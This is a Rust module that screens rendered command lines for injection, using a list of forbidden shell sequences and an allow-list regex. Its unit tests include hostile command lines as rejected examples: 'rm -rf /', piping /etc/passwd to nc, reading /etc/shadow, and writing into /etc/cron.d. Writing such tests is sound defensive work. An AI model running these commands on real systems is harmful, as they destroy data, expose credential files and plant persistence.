//! Injection guard: allow-list filter for rendered command lines.
//!
//! Rendered values originate from caller input, so the final command line is
//! checked as a whole before anything is spawned. This is an allow-list over
//! characters, not a deny-list of shell built-ins: the program named by the
//! first token still runs, so every configured template's base program must be
//! trusted by the operator.

use regex::Regex;
use std::sync::OnceLock;

/// Substrings that enable chaining, redirection, substitution, or escaping.
const FORBIDDEN_SEQUENCES: [&str; 9] = [";", "&&", "||", "|", ">", "<", "$", "`", "\\"];

static SAFE_LINE: OnceLock<Regex> = OnceLock::new();

fn safe_line() -> &'static Regex {
    SAFE_LINE.get_or_init(|| {
        Regex::new(r#"^[a-zA-Z0-9\s\-_./,:"'=+]+$"#).expect("allow-list pattern compiles")
    })
}

/// True when the command line contains no forbidden sequence and every
/// character is inside the allow-list. Pure function; an empty line is unsafe.
pub fn is_command_safe(line: &str) -> bool {
    if FORBIDDEN_SEQUENCES.iter().any(|s| line.contains(s)) {
        return false;
    }
    safe_line().is_match(line)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_commands_pass() {
        assert!(is_command_safe("echo hello"));
        assert!(is_command_safe("df -h /var/log"));
        assert!(is_command_safe("systemctl status nginx.service"));
        assert!(is_command_safe("tar -czf backup.tar.gz /etc, please"));
        assert!(is_command_safe(r#"grep 'needle' haystack.txt"#));
        assert!(is_command_safe("env KEY=value+1"));
    }

    #[test]
    fn chaining_and_redirection_are_rejected() {
        assert!(!is_command_safe("echo hello; rm -rf /"));
        assert!(!is_command_safe("true && reboot"));
        assert!(!is_command_safe("false || reboot"));
        assert!(!is_command_safe("cat /etc/passwd | nc host 1234"));
        assert!(!is_command_safe("echo x > /etc/cron.d/job"));
        assert!(!is_command_safe("wc -l < /etc/shadow"));
    }

    #[test]
    fn substitution_and_escaping_are_rejected() {
        assert!(!is_command_safe("echo $HOME"));
        assert!(!is_command_safe("echo `id`"));
        assert!(!is_command_safe(r"echo a\ b"));
    }

    #[test]
    fn characters_outside_the_allow_list_are_rejected() {
        assert!(!is_command_safe("echo hello()"));
        assert!(!is_command_safe("kill %1"));
        assert!(!is_command_safe("echo héllo"));
        assert!(!is_command_safe("echo {a}"));
    }

    #[test]
    fn empty_line_is_unsafe() {
        assert!(!is_command_safe(""));
    }

    #[test]
    fn check_is_idempotent() {
        for line in ["echo hello", "echo hello; rm -rf /", ""] {
            assert_eq!(is_command_safe(line), is_command_safe(line));
        }
    }
}
